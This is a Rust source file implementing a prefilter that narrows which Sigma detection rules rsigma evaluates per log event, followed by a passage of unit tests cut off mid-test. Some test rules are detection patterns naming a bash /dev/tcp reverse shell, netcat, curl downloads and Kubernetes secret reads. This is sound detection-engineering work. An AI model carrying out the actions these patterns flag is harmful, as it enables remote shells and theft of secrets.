//! A prefilter in front of rsigma's rule evaluation: which rules of a group can possibly match
//! an event, found by looking at a few fields once instead of evaluating every rule.
//!
//! For each compiled rule (after pipelines and filters) the analysis derives a *gate*: up to
//! three clauses that must all hold whenever the rule matches, each a set of atoms of which at
//! least one holds. An atom is one of: "field F is present"; "the lower-cased text of F
//! contains N"; "F equals the number X"; "some string value anywhere contains N" (keywords).
//! Per event, the fields of each rule's first clause are looked up once, their text searched
//! with one Aho-Corasick automaton per field; a rule whose first clause holds has its other
//! clauses checked (looking up their fields only then), and only rules whose every clause holds
//! (plus rules without a gate) are handed to rsigma's `evaluate_rule`. Results are therefore
//! the same as `Engine::evaluate` with its default settings, in the same rule order.
//!
//! Soundness rests on mirroring rsigma 0.23's matching exactly:
//! - a field item whose field is absent holds only when its matcher is `Null`, so any other
//!   matcher implies "present";
//! - case-insensitive string matchers compare `to_lowercase(text)` with a needle stored already
//!   lower-cased, and `Exact`, `StartsWith`, `EndsWith` all imply `Contains`;
//! - numbers and booleans are matched through their `to_string` text, arrays by any element,
//!   maps never (`match_str_value`); `NumericEq` through `match_numeric_value`;
//! - keywords are matched against string values only (`any_string_value`);
//! - `AND` keeps the clauses of all its parts, `OR` the cross product of theirs, `NOT` none.
//!
//! Case-sensitive (`cased`) matchers, regexes, CIDR, range and field-reference matchers fall
//! back to "present". Array scopes, negations and keywords other than plain text give no gate;
//! such rules are always evaluated. The differential tests (`tests/prefilter.rs`) check on the
//! whole SigmaHQ corpus that no rule that matches is ever left out.

use std::collections::HashMap;

use aho_corasick::AhoCorasick;
use rsigma_eval::event::EventValue;
use rsigma_eval::{
    CompiledDetection, CompiledDetectionItem, CompiledMatcher, CompiledRule, EvaluationResult,
    Event, evaluate_rule,
};
use rsigma_parser::{ConditionExpr, Quantifier};
use serde_json::Value;

use crate::event::{FastEvent, FieldPath, Resolved};

/// One necessary condition.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
enum Atom {
    Present(String),
    /// Field, lower-cased needle (never empty).
    Needle(String, String),
    /// Field, a number (as `f64::to_bits`) it equals as rsigma's `NumericEq` compares.
    Number(String, u64),
}

impl Atom {
    /// How rarely the atom is expected to hold, higher is rarer. Presence says little unless
    /// the path is deep; a longer needle says more.
    fn strength(&self) -> usize {
        match self {
            // A deep path is rarely present; a top-level one usually is.
            Atom::Present(f) => 1 + f.matches('.').count().min(5),
            Atom::Needle(_, n) => 2 + n.chars().count().min(16),
            Atom::Number(..) => 8,
        }
    }
}

/// A necessary condition in conjunctive form: every clause must hold, and a clause holds when
/// one of its atoms does. No clauses: nothing known (always evaluate). A clause without atoms
/// never holds, so a gate holding one means the rule can never match.
type Gate = Vec<Clause>;
type Clause = Vec<Atom>;

/// The pseudo-field of keyword atoms: some string value anywhere in the event (rsigma's
/// `visit_string_values`, the walk its keyword matching uses) holds the needle.
const KEYWORDS: &str = "\u{0}keywords";

/// Clauses kept per gate: each costs a bit per event, and a third rarely narrows further.
const MAX_CLAUSES: usize = 3;

/// How selective a clause is: its weakest atom, then fewer atoms.
fn clause_score(c: &Clause) -> (usize, usize) {
    let weakest = c.iter().map(Atom::strength).min().unwrap_or(usize::MAX);
    (weakest, usize::MAX - c.len())
}

/// Canonical clauses, strongest first, at most [`MAX_CLAUSES`]; a clause that holds whenever
/// another one does (a superset of its atoms) says nothing more and is dropped.
fn prune(mut gate: Gate) -> Gate {
    for c in &mut gate {
        c.sort();
        c.dedup();
    }
    if gate.iter().any(Vec::is_empty) {
        return vec![Vec::new()];
    }
    gate.sort_by(|a, b| a.len().cmp(&b.len()).then_with(|| a.cmp(b)));
    gate.dedup();
    let mut kept: Gate = Vec::with_capacity(gate.len());
    for c in gate {
        let implied = kept
            .iter()
            .any(|k| k.iter().all(|a| c.binary_search(a).is_ok()));
        if !implied {
            kept.push(c);
        }
    }
    kept.sort_by(|a, b| clause_score(b).cmp(&clause_score(a)).then_with(|| a.cmp(b)));
    kept.truncate(MAX_CLAUSES);
    kept
}

/// Every part must hold: all their clauses.
fn all(parts: impl IntoIterator<Item = Gate>) -> Gate {
    prune(parts.into_iter().flatten().collect())
}

/// One part must hold: (A1 and A2) or (B1 and B2) implies every (Ai or Bj). Unknown if any
/// part is unknown; an empty list of parts never holds.
fn any(parts: impl IntoIterator<Item = Gate>) -> Gate {
    let mut acc: Gate = vec![Vec::new()];
    for part in parts {
        if part.is_empty() {
            return Vec::new();
        }
        // Both sides are pruned to at most MAX_CLAUSES: the product stays small.
        let mut next = Vec::with_capacity(acc.len() * part.len());
        for a in &acc {
            for b in &part {
                next.push(a.iter().chain(b).cloned().collect());
            }
        }
        acc = prune(next);
    }
    acc
}

/// What `m` matching a value implies about the value's lower-cased text (or its number), as
/// clauses of needles; `None` when nothing is known.
fn needles(m: &CompiledMatcher, field: &str) -> Option<Gate> {
    let one =
        |v: &String| (!v.is_empty()).then(|| vec![vec![Atom::Needle(field.to_owned(), v.clone())]]);
    match m {
        CompiledMatcher::Exact {
            value,
            case_insensitive: true,
        }
        | CompiledMatcher::Contains {
            value,
            case_insensitive: true,
        }
        | CompiledMatcher::StartsWith {
            value,
            case_insensitive: true,
        }
        | CompiledMatcher::EndsWith {
            value,
            case_insensitive: true,
        } => one(value),
        CompiledMatcher::AhoCorasickSet {
            case_insensitive: true,
            needles,
            ..
        } => {
            if needles.is_empty() || needles.iter().any(String::is_empty) {
                None
            } else {
                let clause = needles
                    .iter()
                    .map(|n| Atom::Needle(field.to_owned(), n.clone()))
                    .collect();
                Some(vec![clause])
            }
        }
        CompiledMatcher::NumericEq(n) => {
            Some(vec![vec![Atom::Number(field.to_owned(), n.to_bits())]])
        }
        CompiledMatcher::AnyOf(ms) => any_needles(ms, field),
        CompiledMatcher::AllOf(ms) => all_needles(ms, field),
        CompiledMatcher::CaseInsensitiveGroup { children, mode } => match mode {
            rsigma_eval::matcher::GroupMode::Any => any_needles(children, field),
            rsigma_eval::matcher::GroupMode::All => all_needles(children, field),
        },
        CompiledMatcher::Regex(re) => regex_needles(re.as_str(), field),
        CompiledMatcher::RegexSetMatch { set, mode } => {
            let parts = set.patterns().iter().map(|p| regex_needles(p, field));
            match mode {
                rsigma_eval::matcher::GroupMode::Any => {
                    let parts: Option<Vec<Gate>> = parts.collect();
                    parts.filter(|p| !p.is_empty()).map(any)
                }
                rsigma_eval::matcher::GroupMode::All => {
                    let parts: Vec<Gate> = parts.flatten().collect();
                    (!parts.is_empty()).then(|| all(parts))
                }
            }
        }
        _ => None,
    }
}

/// Shortest text worth a needle: shorter ones would pass on most events.
const MIN_REGEX_NEEDLE: usize = 3;

/// What every match of a regex must contain, as needles for the lower-cased text: for each
/// top-level alternative, the longest run of characters the alternative must match one after
/// another. Sigma wildcards compile to such regexes (`Trojan*FOUND` to `(?i)^Trojan.*FOUND$`).
/// `None` when an alternative has no run of [`MIN_REGEX_NEEDLE`] characters.
///
/// A run takes only characters whose lower-cased form the text then holds: ASCII characters
/// written as themselves, and ASCII letters matched in either case and nothing else. `(?i)`
/// also matches `ſ` for `s` and the Kelvin sign for `k` (Unicode case folding), which
/// lower-casing the text does not turn into `s` and `k`: those letters end a run.
fn regex_needles(pattern: &str, field: &str) -> Option<Gate> {
    use regex_syntax::hir::HirKind;
    let hir = regex_syntax::Parser::new().parse(pattern).ok()?;
    let alternatives = match hir.kind() {
        HirKind::Alternation(xs) => xs.iter().collect(),
        _ => vec![&hir],
    };
    let mut clause = Vec::with_capacity(alternatives.len());
    for alt in alternatives {
        clause.push(Atom::Needle(field.to_owned(), longest_run(alt)?));
    }
    Some(vec![clause])
}

/// The longest run of [`run_text`] pieces in a concatenation (or the one piece).
fn longest_run(h: &regex_syntax::hir::Hir) -> Option<String> {
    use regex_syntax::hir::HirKind;
    let parts = match h.kind() {
        HirKind::Concat(xs) => xs.as_slice(),
        _ => std::slice::from_ref(h),
    };
    let (mut best, mut run) = (String::new(), String::new());
    for p in parts {
        match p.kind() {
            // Zero-width: the text on both sides is still one run.
            HirKind::Look(_) | HirKind::Empty => {}
            _ => match run_text(p) {
                Some(t) => run.push_str(&t),
                None => {
                    if run.len() > best.len() {
                        best = std::mem::take(&mut run);
                    }
                    run.clear();
                }
            },
        }
    }
    if run.len() > best.len() {
        best = run;
    }
    (best.len() >= MIN_REGEX_NEEDLE).then_some(best)
}

/// The lower-cased text one piece of a regex always matches, when it is plain enough.
fn run_text(h: &regex_syntax::hir::Hir) -> Option<String> {
    use regex_syntax::hir::{Class, HirKind};
    match h.kind() {
        HirKind::Literal(lit) => {
            let text = std::str::from_utf8(&lit.0).ok()?;
            text.is_ascii().then(|| text.to_ascii_lowercase())
        }
        HirKind::Class(Class::Unicode(c)) => {
            let r = c.ranges();
            match r {
                [one] if one.start() == one.end() && one.start().is_ascii() => {
                    Some(one.start().to_ascii_lowercase().to_string())
                }
                [a, b]
                    if a.start() == a.end()
                        && b.start() == b.end()
                        && a.start().is_ascii_uppercase()
                        && a.start().to_ascii_lowercase() == b.start() =>
                {
                    Some(b.start().to_string())
                }
                _ => None,
            }
        }
        HirKind::Capture(cap) => run_text(&cap.sub),
        _ => None,
    }
}

fn any_needles(ms: &[CompiledMatcher], field: &str) -> Option<Gate> {
    if ms.is_empty() {
        return None;
    }
    let mut parts = Vec::with_capacity(ms.len());
    for m in ms {
        parts.push(needles(m, field)?);
    }
    Some(any(parts))
}

fn all_needles(ms: &[CompiledMatcher], field: &str) -> Option<Gate> {
    let parts: Vec<Gate> = ms.iter().filter_map(|m| needles(m, field)).collect();
    (!parts.is_empty()).then(|| all(parts))
}

/// Keyword matching looks at string values only (a subset of what `needles` assumes). Only
/// text needles are kept: a keyword number is matched however rsigma's `matches_str` treats
/// numbers, which this does not assume.
fn keyword_gate(m: &CompiledMatcher) -> Gate {
    let gate = needles(m, KEYWORDS).unwrap_or_default();
    let text_only = gate.iter().flatten().all(|a| matches!(a, Atom::Needle(..)));
    if text_only { gate } else { Vec::new() }
}

fn item_gate(item: &CompiledDetectionItem) -> Gate {
    let Some(field) = item.field.as_ref() else {
        return match item.exists {
            None => keyword_gate(&item.matcher),
            Some(_) => Vec::new(),
        };
    };
    match item.exists {
        // rsigma: present and not null.
        Some(true) => return vec![vec![Atom::Present(field.clone())]],
        Some(false) => return Vec::new(),
        None => {}
    }
    // An absent field satisfies only the `Null` matcher.
    if matches!(item.matcher, CompiledMatcher::Null) {
        return Vec::new();
    }
    needles(&item.matcher, field).unwrap_or_else(|| vec![vec![Atom::Present(field.clone())]])
}

fn detection_gate(d: &CompiledDetection) -> Gate {
    match d {
        CompiledDetection::AllOf(items) => all(items.iter().map(item_gate)),
        CompiledDetection::AnyOf(ds) => any(ds.iter().map(detection_gate)),
        CompiledDetection::And(ds) => all(ds.iter().map(detection_gate)),
        CompiledDetection::Keywords(m) => keyword_gate(m),
        CompiledDetection::ArrayMatch { .. } | CompiledDetection::Conditional { .. } => Vec::new(),
    }
}

fn condition_gate(c: &ConditionExpr, dets: &HashMap<String, CompiledDetection>) -> Gate {
    match c {
        ConditionExpr::Identifier(name) => match dets.get(name) {
            Some(d) => detection_gate(d),
            // rsigma: an unknown identifier is false.
            None => vec![Vec::new()],
        },
        ConditionExpr::And(xs) => all(xs.iter().map(|x| condition_gate(x, dets))),
        ConditionExpr::Or(xs) => any(xs.iter().map(|x| condition_gate(x, dets))),
        ConditionExpr::Not(_) => Vec::new(),
        ConditionExpr::Selector {
            quantifier,
            pattern,
        } => {
            // In name order: the map's order differs between compiled copies of a rule, and
            // pruning along the way would make the gate depend on it.
            let mut named: Vec<(&String, &CompiledDetection)> = dets
                .iter()
                .filter(|(name, _)| pattern.matches_detection_name(name))
                .collect();
            named.sort_by(|a, b| a.0.cmp(b.0));
            let named = named.into_iter().map(|(_, d)| detection_gate(d));
            match quantifier {
                // At least one named detection must hold (none named: never true).
                Quantifier::Any => any(named),
                Quantifier::Count(n) if *n >= 1 => any(named),
                Quantifier::Count(_) => Vec::new(),
                // Vacuously true when nothing is named.
                Quantifier::All => all(named),
            }
        }
    }
}

/// The gate of a whole rule: it matches if any of its conditions does.
fn rule_gate(rule: &CompiledRule) -> Gate {
    if rule.conditions.is_empty() {
        return Vec::new();
    }
    any(rule
        .conditions
        .iter()
        .map(|c| condition_gate(c, &rule.detections)))
}

struct FieldIndex {
    path: FieldPath,
    /// The keyword pseudo-field.
    keywords: bool,
    /// Clauses that hold when the field is present at all.
    present: Vec<u32>,
    /// One automaton over every needle of this field; `needle_clauses[pattern]` lists the
    /// clauses the needle satisfies.
    automaton: Option<AhoCorasick>,
    needle_clauses: Vec<Vec<u32>>,
    /// Numbers the field's value may equal, with the clauses each satisfies.
    numbers: Vec<(f64, Vec<u32>)>,
    /// Some rule's first clause has an atom here: looked up for every event. Other fields
    /// are looked up only when a rule whose first clause held needs them.
    primary: bool,
}

/// Candidate selection for one group's rules (indexes into `Engine::rules()`).
///
/// Clauses are numbered: rule `i`'s first clause is `i`, its others follow the rules. A rule
/// is a candidate when every one of its clauses holds; a rule without a gate has its first
/// clause set from the start and no others.
pub(crate) struct Prefilter {
    rules: usize,
    /// Clause bits set before looking at the event (the rules without a gate).
    always: Vec<u64>,
    /// Per rule, the range of `others` holding its further clauses.
    further: Vec<(u32, u32)>,
    others: Vec<u32>,
    fields: Vec<FieldIndex>,
    /// Per clause id, the fields (indexes into `fields`) its atoms look at.
    clause_fields: Vec<Vec<u32>>,
    /// The primary fields with a plain path, by first segment: their first segments are found
    /// in one merge with the event's keys (which serde_json keeps sorted) instead of one map
    /// lookup each.
    by_first: Vec<u32>,
    /// The other primary fields (keywords, paths with brackets or escapes).
    other_primary: Vec<u32>,
}

/// Counts for reports and tests.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PrefilterStats {
    pub rules: usize,
    /// Rules evaluated on every event (no gate found).
    pub ungated: usize,
    /// Rules that can never match.
    pub never: usize,
    /// Fields looked up per event.
    pub fields: usize,
    pub needles: usize,
    /// Clauses over all rules (a candidate needs all of its rule's).
    pub clauses: usize,
}

fn set(marks: &mut [u64], bit: u32) {
    marks[bit as usize / 64] |= 1 << (bit % 64);
}

fn get(marks: &[u64], bit: u32) -> bool {
    marks[bit as usize / 64] & (1 << (bit % 64)) != 0
}

impl Prefilter {
    pub(crate) fn new(rules: &[CompiledRule]) -> Prefilter {
        let mut present: HashMap<String, Vec<u32>> = HashMap::new();
        let mut needles: HashMap<String, HashMap<String, Vec<u32>>> = HashMap::new();
        let mut numbers: HashMap<String, HashMap<u64, Vec<u32>>> = HashMap::new();
        let mut ungated = Vec::new();
        let mut further = Vec::with_capacity(rules.len());
        let mut others = Vec::new();
        let mut next_id = rules.len() as u32;
        let mut clause_paths: Vec<Vec<String>> = vec![Vec::new(); rules.len()];
        for (i, rule) in rules.iter().enumerate() {
            let gate = rule_gate(rule);
            if gate.is_empty() {
                ungated.push(i as u32);
            }
            let start = others.len() as u32;
            for (k, clause) in gate.into_iter().enumerate() {
                let id = if k == 0 {
                    i as u32
                } else {
                    others.push(next_id);
                    next_id += 1;
                    next_id - 1
                };
                if id as usize >= clause_paths.len() {
                    clause_paths.resize(id as usize + 1, Vec::new());
                }
                clause_paths[id as usize].extend(clause.iter().map(|a| match a {
                    Atom::Present(f) | Atom::Needle(f, _) | Atom::Number(f, _) => f.clone(),
                }));
                for atom in clause {
                    match atom {
                        Atom::Present(f) => present.entry(f).or_default().push(id),
                        Atom::Needle(f, n) => {
                            needles.entry(f).or_default().entry(n).or_default().push(id)
                        }
                        Atom::Number(f, n) => {
                            numbers.entry(f).or_default().entry(n).or_default().push(id)
                        }
                    }
                }
            }
            further.push((start, others.len() as u32));
        }
        let mut always = vec![0u64; (next_id as usize).div_ceil(64)];
        for &r in &ungated {
            set(&mut always, r);
        }
        let mut paths: Vec<String> = present
            .keys()
            .chain(needles.keys())
            .chain(numbers.keys())
            .cloned()
            .collect();
        paths.sort();
        paths.dedup();
        let index_of = |p: &String| paths.binary_search(p).map_or(0, |i| i as u32);
        let clause_fields: Vec<Vec<u32>> = clause_paths
            .iter()
            .map(|ps| {
                let mut fs: Vec<u32> = ps.iter().map(index_of).collect();
                fs.sort_unstable();
                fs.dedup();
                fs
            })
            .collect();
        let mut primary = vec![false; paths.len()];
        for fs in &clause_fields[..rules.len()] {
            for &f in fs {
                primary[f as usize] = true;
            }
        }
        let mut fields = Vec::with_capacity(paths.len());
        for (fi, path) in paths.into_iter().enumerate() {
            let mut pres = present.remove(&path).unwrap_or_default();
            pres.sort_unstable();
            pres.dedup();
            let mut pats: Vec<(String, Vec<u32>)> = needles
                .remove(&path)
                .unwrap_or_default()
                .into_iter()
                .collect();
            pats.sort();
            // A clause that holds by the field's presence needs no needle on the same field.
            for (_, cs) in &mut pats {
                cs.sort_unstable();
                cs.dedup();
                cs.retain(|c| pres.binary_search(c).is_err());
            }
            pats.retain(|(_, cs)| !cs.is_empty());
            let mut nums: Vec<(f64, Vec<u32>)> = numbers
                .remove(&path)
                .unwrap_or_default()
                .into_iter()
                .map(|(n, mut cs)| {
                    cs.sort_unstable();
                    cs.dedup();
                    cs.retain(|c| pres.binary_search(c).is_err());
                    (f64::from_bits(n), cs)
                })
                .filter(|(_, cs)| !cs.is_empty())
                .collect();
            nums.sort_by(|a, b| a.0.total_cmp(&b.0));
            let automaton = if pats.is_empty() {
                None
            } else {
                // Needles are plain text; building fails only on sizes far beyond rules'.
                // Then the needles' clauses hold for every event: still sound.
                match AhoCorasick::new(pats.iter().map(|(n, _)| n.as_str())) {
                    Ok(ac) => Some(ac),
                    Err(_) => {
                        for c in pats.drain(..).flat_map(|(_, cs)| cs) {
                            set(&mut always, c);
                        }
                        None
                    }
                }
            };
            fields.push(FieldIndex {
                keywords: path == KEYWORDS,
                path: FieldPath::new(&path),
                present: pres,
                automaton,
                needle_clauses: pats.into_iter().map(|(_, cs)| cs).collect(),
                numbers: nums,
                primary: primary[fi],
            });
        }
        let (mut by_first, other_primary): (Vec<u32>, Vec<u32>) = (0..fields.len() as u32)
            .filter(|&fi| fields[fi as usize].primary)
            .partition(|&fi| {
                let f = &fields[fi as usize];
                !f.keywords && f.path.first_segment().is_some()
            });
        by_first.sort_by(|&a, &b| {
            let seg = |fi: u32| fields[fi as usize].path.first_segment().unwrap_or("");
            seg(a).cmp(seg(b))
        });
        Prefilter {
            rules: rules.len(),
            always,
            further,
            others,
            fields,
            clause_fields,
            by_first,
            other_primary,
        }
    }

    pub(crate) fn stats(&self, rules: &[CompiledRule]) -> PrefilterStats {
        PrefilterStats {
            rules: self.rules,
            ungated: (0..self.rules as u32)
                .filter(|&r| get(&self.always, r))
                .count(),
            never: rules
                .iter()
                .filter(|r| rule_gate(r).iter().any(Vec::is_empty))
                .count(),
            fields: self.fields.len(),
            needles: self.fields.iter().map(|f| f.needle_clauses.len()).sum(),
            clauses: self.rules + self.others.len(),
        }
    }

    /// Look at field `fi` of `event` and set the bits of the clauses it satisfies.
    fn look(&self, fi: usize, event: &FastEvent<'_>, marks: &mut [u64]) {
        let f = &self.fields[fi];
        if f.keywords {
            if let Some(ac) = &f.automaton {
                event.visit_string_values(&mut |text| search(f, ac, text, marks));
            }
            return;
        }
        let resolved = event.resolve_path(&f.path, &mut |v| value(f, v, marks));
        let present = match resolved {
            Resolved::Found(n) => n > 0,
            Resolved::Fallback => match event.get_field(f.path.as_str()) {
                None => false,
                Some(value) => {
                    if let Some(ac) = &f.automaton {
                        each_text(&value, &mut |text| search(f, ac, text, marks));
                    }
                    if !f.numbers.is_empty() {
                        each_number(&value, &mut |x| number(f, x, marks));
                    }
                    true
                }
            },
        };
        if present {
            for &c in &f.present {
                set(marks, c);
            }
        }
    }

    /// [`Prefilter::look`] for a field in `by_first`, given what its first segment names at
    /// the event's top level.
    fn look_first(&self, fi: usize, first: Option<&Value>, marks: &mut [u64]) {
        let f = &self.fields[fi];
        let resolved = FastEvent::resolve_first(&f.path, first, &mut |v| value(f, v, marks));
        if matches!(resolved, Resolved::Found(n) if n > 0) {
            for &c in &f.present {
                set(marks, c);
            }
        }
    }

    /// Look at every primary field (the order does not matter: looking only sets marks).
    fn look_primary(&self, event: &FastEvent<'_>, clauses: &mut [u64], looked: &mut [u64]) {
        // A merge walks every key; a lookup costs about log2(keys) comparisons. Merge only
        // when the fields outnumber what their lookups would compare (measured: with the first
        // 100 SigmaHQ rules a merge was 10% slower, with all 451 4% faster).
        let entries = event.sorted_entries().filter(|e| {
            let m = self.by_first.len();
            m * (usize::BITS - e.len().leading_zeros()) as usize > 2 * (e.len() + m)
        });
        let Some(entries) = entries else {
            for fi in self.by_first.iter().chain(&self.other_primary) {
                self.look(*fi as usize, event, clauses);
                set(looked, *fi);
            }
            return;
        };
        // serde_json's map is a BTreeMap unless its `preserve_order` feature is on; the test
        // `event_keys_come_sorted` guards that.
        debug_assert!(
            entries
                .keys()
                .zip(entries.keys().skip(1))
                .all(|(a, b)| a < b)
        );
        let mut keys = entries.iter().peekable();
        for &fi in &self.by_first {
            let seg = self.fields[fi as usize].path.first_segment().unwrap_or("");
            let mut first = None;
            while let Some((k, v)) = keys.peek() {
                match k.as_str().cmp(seg) {
                    std::cmp::Ordering::Less => {
                        keys.next();
                    }
                    std::cmp::Ordering::Equal => {
                        first = Some(*v);
                        break;
                    }
                    std::cmp::Ordering::Greater => break,
                }
            }
            self.look_first(fi as usize, first, clauses);
            set(looked, fi);
        }
        for &fi in &self.other_primary {
            self.look(fi as usize, event, clauses);
            set(looked, fi);
        }
    }

    /// Call `found` with each candidate rule for `event`, in rule order.
    fn candidates(&self, event: &FastEvent<'_>, mut found: impl FnMut(usize)) {
        // Clause bits, then one bit per field: looked at already.
        let clause_words = self.always.len();
        let words = clause_words + self.fields.len().div_ceil(64);
        let mut stack = [0u64; 48];
        let mut heap = Vec::new();
        let marks: &mut [u64] = if words <= stack.len() {
            &mut stack[..words]
        } else {
            heap.resize(words, 0);
            &mut heap
        };
        marks[..clause_words].copy_from_slice(&self.always);
        let (clauses, looked) = marks.split_at_mut(clause_words);
        self.look_primary(event, clauses, looked);
        for w in 0..self.rules.div_ceil(64) {
            let mut bits = marks[w];
            while bits != 0 {
                let i = w * 64 + bits.trailing_zeros() as usize;
                bits &= bits - 1;
                if i < self.rules && self.complete(i, event, marks) {
                    found(i);
                }
            }
        }
    }

    /// Rule `i`'s first clause held: do its others, looking at the fields they need?
    fn complete(&self, i: usize, event: &FastEvent<'_>, marks: &mut [u64]) -> bool {
        let clause_words = self.always.len();
        let (a, b) = self.further[i];
        for &c in &self.others[a as usize..b as usize] {
            if get(marks, c) {
                continue;
            }
            for &fi in &self.clause_fields[c as usize] {
                let (clauses, looked) = marks.split_at_mut(clause_words);
                if !get(looked, fi) {
                    self.look(fi as usize, event, clauses);
                    set(looked, fi);
                }
            }
            if !get(marks, c) {
                return false;
            }
        }
        true
    }

    /// Evaluate the candidate rules among `rules` (the group engine's `rules()`, which this
    /// prefilter was built from) on `event`, except those whose bit is set in `skip` (which
    /// may be shorter), appending matches in rule order.
    pub(crate) fn evaluate(
        &self,
        rules: &[CompiledRule],
        event: &FastEvent<'_>,
        skip: &[u64],
        out: &mut Vec<EvaluationResult>,
    ) {
        debug_assert_eq!(rules.len(), self.rules);
        self.candidates(event, |i| {
            if skip.get(i / 64).is_some_and(|w| w & (1 << (i % 64)) != 0) {
                return;
            }
            if let Some(r) = evaluate_rule(&rules[i], event) {
                out.push(r);
            }
        });
    }

    /// Evaluate every rule (or only the one whose id is `only`) directly: the names of those
    /// that match, and of those of them the prefilter would have skipped. For tests.
    pub(crate) fn check(
        &self,
        rules: &[CompiledRule],
        event: &FastEvent<'_>,
        only: Option<&str>,
    ) -> (Vec<String>, Vec<String>) {
        let mut candidate = vec![false; rules.len()];
        self.candidates(event, |i| candidate[i] = true);
        let (mut matched, mut missed) = (Vec::new(), Vec::new());
        for (i, rule) in rules.iter().enumerate() {
            if only.is_some_and(|id| rule.id.as_deref() != Some(id)) {
                continue;
            }
            if evaluate_rule(rule, event).is_some() {
                let name = rule.id.clone().unwrap_or_else(|| rule.title.clone());
                if !candidate[i] {
                    missed.push(name.clone());
                }
                matched.push(name);
            }
        }
        (matched, missed)
    }
}

/// Mark what one of the field's values satisfies: its needles and numbers.
fn value(f: &FieldIndex, v: &Value, marks: &mut [u64]) {
    if let Some(ac) = &f.automaton {
        each_json_text(v, &mut |text| search(f, ac, text, marks));
    }
    if !f.numbers.is_empty() {
        each_json_number(v, &mut |x| number(f, x, marks));
    }
}

/// rsigma's string coercion (`match_str_value`): text as is, numbers and booleans by their
/// `to_string`, arrays element by element, null and maps not at all.
fn each_text(v: &EventValue<'_>, f: &mut dyn FnMut(&str)) {
    match v {
        EventValue::Str(s) => f(s),
        EventValue::Int(n) => f(&n.to_string()),
        EventValue::Float(x) => f(&x.to_string()),
        EventValue::Bool(b) => f(if *b { "true" } else { "false" }),
        EventValue::Array(items) => items.iter().for_each(|i| each_text(i, f)),
        EventValue::Null | EventValue::Map(_) => {}
    }
}

/// [`each_text`] of `EventValue::from(v)`, without converting `v`.
fn each_json_text(v: &Value, f: &mut dyn FnMut(&str)) {
    match v {
        Value::String(s) => f(s),
        Value::Number(n) => match n.as_i64() {
            Some(i) => f(&i.to_string()),
            None => f(&n.as_f64().unwrap_or(f64::NAN).to_string()),
        },
        Value::Bool(b) => f(if *b { "true" } else { "false" }),
        Value::Array(items) => items.iter().for_each(|i| each_json_text(i, f)),
        Value::Null | Value::Object(_) => {}
    }
}

/// [`each_number`] of `EventValue::from(v)`, without converting `v`.
fn each_json_number(v: &Value, f: &mut dyn FnMut(f64)) {
    match v {
        Value::Number(n) => match n.as_i64() {
            Some(i) => f(i as f64),
            None => f(n.as_f64().unwrap_or(f64::NAN)),
        },
        Value::String(s) => {
            if let Ok(x) = s.parse::<f64>() {
                f(x)
            }
        }
        Value::Array(items) => items.iter().for_each(|i| each_json_number(i, f)),
        Value::Bool(_) | Value::Null | Value::Object(_) => {}
    }
}

/// Set the clauses of the field's numbers that `x` equals as rsigma's `NumericEq` compares.
fn number(f: &FieldIndex, x: f64, marks: &mut [u64]) {
    for (n, clauses) in &f.numbers {
        if (x - n).abs() < f64::EPSILON {
            for &c in clauses {
                set(marks, c);
            }
        }
    }
}

/// rsigma's numeric coercion (`match_numeric_value`): numbers as they are, text that parses
/// as `f64`, arrays element by element.
fn each_number(v: &EventValue<'_>, f: &mut dyn FnMut(f64)) {
    match v {
        EventValue::Int(n) => f(*n as f64),
        EventValue::Float(x) => f(*x),
        EventValue::Str(s) => {
            if let Ok(x) = s.parse::<f64>() {
                f(x)
            }
        }
        EventValue::Array(items) => items.iter().for_each(|i| each_number(i, f)),
        EventValue::Bool(_) | EventValue::Null | EventValue::Map(_) => {}
    }
}

/// Set the clauses of the needles `text` holds once lower-cased as rsigma lower-cases
/// (`str::to_lowercase`, which can also turn non-ASCII letters into ASCII ones).
fn search(f: &FieldIndex, ac: &AhoCorasick, text: &str, marks: &mut [u64]) {
    let lowered;
    let haystack = if text.is_ascii() && !text.bytes().any(|b| b.is_ascii_uppercase()) {
        text
    } else {
        lowered = text.to_lowercase();
        &lowered
    };
    for m in ac.find_overlapping_iter(haystack) {
        for &c in &f.needle_clauses[m.pattern().as_usize()] {
            set(marks, c);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn compile(yaml: &str) -> CompiledRule {
        let collection = rsigma_parser::parse_sigma_yaml(yaml).expect("rule parses");
        rsigma_eval::compile_rule(&collection.rules[0]).expect("rule compiles")
    }

    fn rule(detection: &str) -> CompiledRule {
        compile(&format!(
            "title: t\nid: 00000000-0000-0000-0000-000000000001\nlogsource:\n  product: test\n\
             detection:\n{detection}"
        ))
    }

    fn gate_of(detection: &str) -> Gate {
        rule_gate(&rule(detection))
    }

    fn needle(f: &str, n: &str) -> Atom {
        Atom::Needle(f.into(), n.into())
    }

    fn present(f: &str) -> Atom {
        Atom::Present(f.into())
    }

    #[test]
    fn gates_follow_the_condition() {
        // AND keeps every part, the longest needle first.
        assert_eq!(
            gate_of("  sel:\n    verb: get\n    objectRef.resource: secrets\n  condition: sel\n"),
            vec![
                vec![needle("objectRef.resource", "secrets")],
                vec![needle("verb", "get")]
            ]
        );
        // OR needs one side: (a1 and a2) or b gives (a1 or b) and (a2 or b).
        assert_eq!(
            gate_of(
                "  a:\n    verb: delete\n    objectRef.resource: pods\n  b:\n    Image|endswith: '/NC'\n  condition: a or b\n"
            ),
            vec![
                vec![needle("Image", "/nc"), needle("objectRef.resource", "pods")],
                vec![needle("Image", "/nc"), needle("verb", "delete")],
            ]
        );
        // A list of values is one clause; `contains|all` one clause per value.
        assert_eq!(
            gate_of("  a:\n    verb:\n      - create\n      - update\n  condition: a\n"),
            vec![vec![needle("verb", "create"), needle("verb", "update")]]
        );
        assert_eq!(
            gate_of(
                "  a:\n    CommandLine|contains|all:\n      - curl\n      - ' -o '\n  condition: a\n"
            ),
            vec![
                vec![needle("CommandLine", " -o ")],
                vec![needle("CommandLine", "curl")]
            ]
        );
        // NOT, and an OR with an ungated side, leave the rule ungated.
        assert_eq!(
            gate_of("  a:\n    verb: x\n  condition: not a\n"),
            Gate::new()
        );
        assert_eq!(
            gate_of("  a:\n    verb: x\n  condition: a or not a\n"),
            Gate::new()
        );
        // Keywords: some string anywhere holds one of them.
        assert_eq!(
            gate_of("  kw:\n    - evil\n    - '/dev/TCP'\n  condition: kw\n"),
            vec![vec![needle(KEYWORDS, "/dev/tcp"), needle(KEYWORDS, "evil")]]
        );
        // ... but AND with a negation keeps the positive side.
        assert_eq!(
            gate_of("  a:\n    verb: xy\n  f:\n    user: bob\n  condition: a and not f\n"),
            vec![vec![needle("verb", "xy")]]
        );
